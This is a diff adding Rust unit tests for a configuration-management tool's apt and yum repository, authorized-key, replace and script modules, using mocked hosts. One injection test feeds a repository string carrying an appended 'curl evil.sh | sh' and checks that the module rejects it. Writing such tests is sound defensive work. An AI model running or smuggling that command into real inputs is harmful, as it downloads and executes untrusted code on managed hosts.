+    assert_eq!(
+        mock.get_commands(),
+        vec!["apt-get update -qq".to_string()],
+        "cache should be refreshed after adding the source"
+    );
+
+    // Second run finds the entry and touches nothing
+    let result = module.execute(&params, &context).unwrap();
+    assert!(!result.changed);
+    assert!(result.diff.is_none());
+    assert_eq!(mock.get_commands().len(), 1);
+}
+
+#[tokio::test]
+async fn test_apt_repository_installs_missing_key_and_removes_entry() {
+    let module = AptRepositoryModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    mock.add_virtual_file(
+        "/etc/apt/sources.list.d/example.list",
+        "# Example repository\ndeb http://example.com/debian bookworm main\n",
+    );
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert(
+        "repo".to_string(),
+        serde_json::json!("deb http://example.com/debian bookworm contrib"),
+    );
+    params.insert("filename".to_string(), serde_json::json!("example"));
+    params.insert(
+        "key_url".to_string(),
+        serde_json::json!("https://example.com/archive-key.asc"),
+    );
+    params.insert("update_cache".to_string(), serde_json::json!(false));
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert!(mock.get_commands().contains(
+        &"curl -fsSL 'https://example.com/archive-key.asc' -o '/etc/apt/keyrings/example.asc'"
+            .to_string()
+    ));
+    assert_eq!(
+        mock_file(&mock, "/etc/apt/sources.list.d/example.list").await,
+        "# Example repository\ndeb http://example.com/debian bookworm main\ndeb http://example.com/debian bookworm contrib\n"
+    );
+
+    params.insert("state".to_string(), serde_json::json!("absent"));
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert_eq!(
+        mock_file(&mock, "/etc/apt/sources.list.d/example.list").await,
+        "# Example repository\ndeb http://example.com/debian bookworm main\n"
+    );
+}
+
+#[tokio::test]
+async fn test_apt_repository_rejects_injection() {
+    let module = AptRepositoryModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default().with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert(
+        "repo".to_string(),
+        serde_json::json!("deb http://example.com/debian bookworm main; curl evil.sh | sh"),
+    );
+    assert!(matches!(
+        module.execute(&params, &context),
+        Err(ModuleError::InvalidParameter(_))
+    ));
+    assert!(mock.get_commands().is_empty());
+}
+
+#[tokio::test]
+async fn test_yum_repository_writes_repo_file_idempotently() {
+    let module = YumRepositoryModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default()
+        .with_diff_mode(true)
+        .with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("epel"));
+    params.insert(
+        "description".to_string(),
+        serde_json::json!("EPEL YUM repo"),
+    );
+    params.insert(
+        "baseurl".to_string(),
+        serde_json::json!("https://download.example.com/pub/epel/9/x86_64/"),
+    );
+    params.insert(
+        "gpgkey".to_string(),
+        serde_json::json!("https://download.example.com/pub/epel/RPM-GPG-KEY-EPEL-9"),
+    );
+    params.insert("gpgcheck".to_string(), serde_json::json!(true));
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    let expected = "[epel]\n\
+                    name=EPEL YUM repo\n\
+                    baseurl=https://download.example.com/pub/epel/9/x86_64/\n\
+                    enabled=1\n\
+                    gpgcheck=1\n\
+                    gpgkey=https://download.example.com/pub/epel/RPM-GPG-KEY-EPEL-9\n";
+    assert_eq!(
+        mock_file(&mock, "/etc/yum.repos.d/epel.repo").await,
+        expected
+    );
+    let diff = result
+        .diff
+        .expect("writing a repo file should produce a diff");
+    assert_eq!(diff.before, "");
+    assert_eq!(diff.after, expected);
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(!result.changed);
+    assert!(result.diff.is_none());
+
+    // Disabling the repository rewrites only its section
+    params.insert("enabled".to_string(), serde_json::json!(false));
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    let diff = result.diff.unwrap();
+    assert!(diff.before.contains("enabled=1"));
+    assert!(diff.after.contains("enabled=0"));
+}
+
+#[tokio::test]
+async fn test_yum_repository_check_mode_leaves_file_untouched() {
+    let module = YumRepositoryModule;
+    let mock = std::sync::Arc::new(MockConnection::new("test-host"));
+    let context = ModuleContext::default()
+        .with_check_mode(true)
+        .with_connection(mock.clone());
+
+    let mut params = HashMap::new();
+    params.insert("name".to_string(), serde_json::json!("internal"));
+    params.insert(
+        "baseurl".to_string(),
+        serde_json::json!("https://repo.example.com/el9/"),
+    );
+
+    let result = module.execute(&params, &context).unwrap();
+    assert!(result.changed);
+    assert!(!mock.virtual_file_exists(std::path::Path::new("/etc/yum.repos.d/internal.repo")));
+}
+
 // ============================================================================
 // User Module Tests (basic validation)
 // ============================================================================
@@ -1961,6 +2911,208 @@ fn test_user_missing_name() {
     assert!(result.is_err());
 }
 
+// ============================================================================
+// Authorized Key Module Tests - Mocked filesystem
+// ============================================================================
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_authorized_key_diff_shows_added_key() {
+    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIdeploy deploy@laptop";
+    let path = std::path::Path::new("/home/deploy/.ssh/authorized_keys");
+
+    let mock = std::sync::Arc::new(MockConnection::new("keys-host"));
+    mock.set_command_result(
+        "getent passwd deploy",
+        CommandResult::success(
+            "deploy:x:1001:1001::/home/deploy:/bin/bash\n".to_string(),
+            String::new(),
+        ),
+    );
+    mock.add_virtual_file(path, Vec::new());
+    let context = ModuleContext::default()
+        .with_connection(mock.clone())
+        .with_diff_mode(true);
+
+    let mut params: ModuleParams = HashMap::new();
+    params.insert("user".to_string(), serde_json::json!("deploy"));
+    params.insert("key".to_string(), serde_json::json!(KEY));
+    params.insert("key_options".to_string(), serde_json::json!("no-pty"));
+
+    let output = AuthorizedKeyModule.execute(&params, &context).unwrap();
+    assert!(output.changed);
+    let details = output.diff.unwrap().details.unwrap();
+    let added: Vec<&str> = details
+        .lines()
+        .filter(|l| l.starts_with('+') && !l.starts_with("+++"))
+        .collect();
+    assert_eq!(added, vec![format!("+no-pty {}", KEY)]);
+    assert!(!details
+        .lines()
+        .any(|l| l.starts_with('-') && !l.starts_with("---")));
+
+    // Re-running with the key in place changes nothing
+    let output = AuthorizedKeyModule.execute(&params, &context).unwrap();
+    assert!(!output.changed);
+    assert!(output.diff.is_none());
+    assert_eq!(
+        mock.download_content(path).await.unwrap(),
+        format!("no-pty {}\n", KEY).into_bytes()
+    );
+}
+
+// ============================================================================
+// Replace Module Tests
+// ============================================================================
+
+#[test]
+fn test_replace_all_occurrences_is_idempotent_with_diff() {
+    let temp = TempDir::new().unwrap();
+    let path = temp.path().join("hosts");
+    fs::write(
+        &path,
+        "10.0.0.1 old.example.com\n10.0.0.2 keep.example.com\n10.0.0.3 old.example.com\n",
+    )
+    .unwrap();
+
+    let mut params: ModuleParams = HashMap::new();
+    params.insert(
+        "path".to_string(),
+        serde_json::json!(path.to_str().unwrap()),
+    );
+    params.insert(
+        "regexp".to_string(),
+        serde_json::json!(r"^(\S+) old\.example\.com$"),
+    );
+    params.insert(
+        "replace".to_string(),
+        serde_json::json!(r"\1 new.example.com"),
+    );
+    params.insert("backup".to_string(), serde_json::json!(true));
+    let context = ModuleContext::default().with_diff_mode(true);
+
+    let output = ReplaceModule.execute(&params, &context).unwrap();
+    assert!(output.changed);
+    assert_eq!(output.data["replacements"], serde_json::json!(2));
+    assert_eq!(
+        fs::read_to_string(&path).unwrap(),
+        "10.0.0.1 new.example.com\n10.0.0.2 keep.example.com\n10.0.0.3 new.example.com\n"
+    );
+    let backup = output.data["backup_file"].as_str().unwrap();
+    assert!(fs::read_to_string(backup)
+        .unwrap()
+        .contains("old.example.com"));
+
+    let details = output.diff.unwrap().details.unwrap();
+    let removed: Vec<&str> = details
+        .lines()
+        .filter(|l| l.starts_with('-') && !l.starts_with("---"))
+        .collect();
+    let added: Vec<&str> = details
+        .lines()
+        .filter(|l| l.starts_with('+') && !l.starts_with("+++"))
+        .collect();
+    assert_eq!(
+        removed,
+        vec!["-10.0.0.1 old.example.com", "-10.0.0.3 old.example.com"]
+    );
+    assert_eq!(
+        added,
+        vec!["+10.0.0.1 new.example.com", "+10.0.0.3 new.example.com"]
+    );
+
+    // A second run finds nothing left to replace
+    let output = ReplaceModule.execute(&params, &context).unwrap();
+    assert!(!output.changed);
+    assert!(output.diff.is_none());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_replace_remote_between_anchors_in_check_mode() {
+    let path = std::path::Path::new("/etc/app.ini");
+    let original = "port=80\n[server]\nport=80\n[admin]\nport=80\n";
+
+    let mock = std::sync::Arc::new(MockConnection::new("app-host"));
+    mock.add_virtual_file(path, original.as_bytes().to_vec());
+    let context = ModuleContext::default()
+        .with_connection(mock.clone())
+        .with_check_mode(true)
+        .with_diff_mode(true);
+
+    let mut params: ModuleParams = HashMap::new();
+    params.insert("path".to_string(), serde_json::json!("/etc/app.ini"));
+    params.insert("regexp".to_string(), serde_json::json!("^port=80$"));
+    params.insert("replace".to_string(), serde_json::json!("port=8080"));
+    params.insert("after".to_string(), serde_json::json!(r"\[server\]"));
+    params.insert("before".to_string(), serde_json::json!(r"\[admin\]"));
+
+    let output = ReplaceModule.check(&params, &context).unwrap();
+    assert!(output.changed);
+    assert_eq!(output.data["replacements"], serde_json::json!(1));
+    let details = output.diff.unwrap().details.unwrap();
+    assert!(details.contains("+port=8080"));
+
+    // Check mode leaves the remote file alone
+    assert_eq!(
+        mock.download_content(path).await.unwrap(),
+        original.as_bytes()
+    );
+
+    let context = ModuleContext::default().with_connection(mock.clone());
+    assert!(ReplaceModule.execute(&params, &context).unwrap().changed);
+    assert_eq!(
+        String::from_utf8(mock.download_content(path).await.unwrap()).unwrap(),
+        "port=80\n[server]\nport=8080\n[admin]\nport=80\n"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn test_script_runs_staged_copy_and_removes_it() {
+    use rustible::connection::local::LocalConnection;
+    use rustible::connection::{RemoteTmp, RemoteTmpConnection};
+
+    let local = TempDir::new().unwrap();
+    let script = local.path().join("greet.sh");
+    fs::write(
+        &script,
+        "#!/bin/sh\necho \"hello $1 from $(basename \"$0\")\"\n",
+    )
+    .unwrap();
+
+    let remote = TempDir::new().unwrap();
+    let tmp = RemoteTmp::new("run").with_base(remote.path().to_string_lossy());
+    let conn = std::sync::Arc::new(RemoteTmpConnection::new(
+        std::sync::Arc::new(LocalConnection::new()),
+        tmp,
+    ));
+    let context = ModuleContext::default().with_connection(conn.clone());
+
+    let mut params: ModuleParams = HashMap::new();
+    params.insert(
+        "cmd".to_string(),
+        serde_json::json!(format!("{} world", script.display())),
+    );
+
+    let output = ScriptModule.execute(&params, &context).unwrap();
+    assert!(output.changed);
+    assert_eq!(output.rc, Some(0));
+    let stdout = output.stdout.unwrap();
+    assert!(stdout.starts_with("hello world from "), "{}", stdout);
+    assert!(stdout.trim_end().ends_with("-greet.sh"), "{}", stdout);
+
+    // The script ran from the staging directory and was removed afterwards
+    let staging = conn.remote_tmp().unwrap().created_path().unwrap();
+    assert!(staging.starts_with(fs::canonicalize(remote.path()).unwrap()));
+    assert_eq!(fs::read_dir(staging).unwrap().count(), 0);
+
+    // creates skips the run entirely
+    params.insert(
+        "creates".to_string(),
+        serde_json::json!(script.to_string_lossy()),
+    );
+    let output = ScriptModule.execute(&params, &context).unwrap();
+    assert!(!output.changed);
+}
+
 // ============================================================================
 // ModuleStatus Tests
 // ============================================================================
@@ -2201,6 +3353,7 @@ fn test_module_with_all_context_options() {
         r#become: true,
         become_method: Some("sudo".to_string()),
         become_user: Some("root".to_string()),
+        become_password: None,
         connection: None,
     };
 